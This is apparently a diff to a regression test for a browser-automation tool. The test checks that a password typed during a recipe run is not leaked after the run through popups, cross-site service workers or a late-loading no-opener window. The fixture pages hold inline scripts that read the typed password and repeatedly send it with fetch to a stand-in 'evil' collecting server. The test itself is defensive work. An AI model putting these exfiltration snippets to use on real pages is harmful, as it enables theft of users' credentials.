@@ -1,10 +1,12 @@
 // What a recipe run started does not carry its typed secret out after the run ends, in the user's Chrome under
 // `tabward serve`, where the browser and its gate outlive every run. Found by an attack review: a run's taint stopped
 // counting when its tab closed, while what the page had handed the password to lived on: a popup it opened (closed
-// only when the session ended, never under serve: the password left every 200 ms, through the next run too) and
-// the service worker of a cross-site frame (kept alive, 2 to 7 sends a run). A run's popups now close with its tab
-// (RecipePage.close), and a worker's requests are judged with the taint of runs that ended too (requestTaint.ts,
-// retired). Assertions on what the other host received.
+// only when the session ended, never under serve: the password left every 200 ms, through the next run too), a
+// window its last click opened with no opener and whose page came after the tab had closed (never told to
+// Playwright as a popup: it sent for good), and the service worker of a cross-site frame (kept alive, 2 to 7 sends
+// a run). A run's popups, told or not, now close with its tab (RecipePage.close; the gate knows every window's
+// opener), and a worker's requests are judged with the taint of runs that ended too (requestTaint.ts, retired).
+// Assertions on what the other host received.
 
 import assert from 'node:assert/strict';
 import { type ChildProcess, spawn } from 'node:child_process';
@@ -83,6 +85,24 @@ before(async () => {
         setInterval(() => { if (value) fetch(${to} + '?how=worker&v=' + encodeURIComponent(value), { mode: 'no-cors' }).catch(() => {}); }, 20);
       `);
     },
+    // The run's last click opens a window with no opener whose answer takes a moment, the password in its hash
+    // (never sent): Playwright tells of a window once its first document commits, and not as a popup once its
+    // opener has closed; the window sends the password on once it has loaded.
+    '/with-slow-window': (_req, _body, res) =>
+      html(
+        res,
+        `${login(`<button id="open" onclick="window.open('/slow-window#' + encodeURIComponent(document.querySelector('input').value), '_blank', 'noopener')">Open</button>`)}`,
+      ),
+    '/slow-window': (_req, _body, res) => {
+      setTimeout(
+        () =>
+          html(
+            res,
+            `<title>Welcome</title><script>setInterval(() => fetch(${to} + '?how=slow-window&v=' + location.hash.slice(1), { mode: 'no-cors' }).catch(() => {}), 20);</script>`,
+          ),
+        1_500,
+      );
+    },
     '/plain': (_req, _body, res) => html(res, '<title>Plain</title><p id="ready">ready</p>'),
   });
   writeFileSync(secrets, `LOGIN_PASSWORD=${password}\n`, { mode: 0o600 });
@@ -130,28 +150,25 @@ async function run(recipe: object): Promise<{ ok?: boolean; error?: unknown }> {
   return (await response.json()) as { ok?: boolean; error?: unknown };
 }
 
+const type = { action: 'type', selector: 'input[name=password]', secret: 'LOGIN_PASSWORD' };
 const cases = [
-  { name: 'a popup it told', path: '/with-popup', first: { action: 'click', selector: '#help' } },
+  { name: 'a popup it told', path: '/with-popup', steps: [{ action: 'click', selector: '#help' }, type] },
   {
     name: "a cross-site frame's service worker",
     path: '/with-worker',
-    first: { action: 'waitFor', selector: '#worker' },
+    steps: [{ action: 'waitFor', selector: '#worker' }, type],
+  },
+  {
+    name: 'a window its last click opened, with no opener, loaded after the tab closed',
+    path: '/with-slow-window',
+    steps: [type, { action: 'click', selector: '#open' }],
   },
 ];
 
-for (const { name, path, first } of cases)
+for (const { name, path, steps } of cases)
   test(`after a run typed a password, ${name} sends it nowhere, then or during the next run`, async () => {
     const before = evil.seen.length;
-    const typed = await run({
-      version: 1,
-      name: 'Sign in',
-      url: site.url('127.0.0.1', path),
-      steps: [
-        first,
-        { action: 'type', selector: 'input[name=password]', secret: 'LOGIN_PASSWORD' },
-        { action: 'waitFor', selector: '#ready' },
-      ],
-    });
+    const typed = await run({ version: 1, name: 'Sign in', url: site.url('127.0.0.1', path), steps });
     assert.equal(typed.ok, true, JSON.stringify(typed.error));
     await new Promise((resolve) => setTimeout(resolve, 1_000));
     const next = await run({ version: 1, name: 'Plain', url: site.url('127.0.0.1', '/plain'), steps: [] });
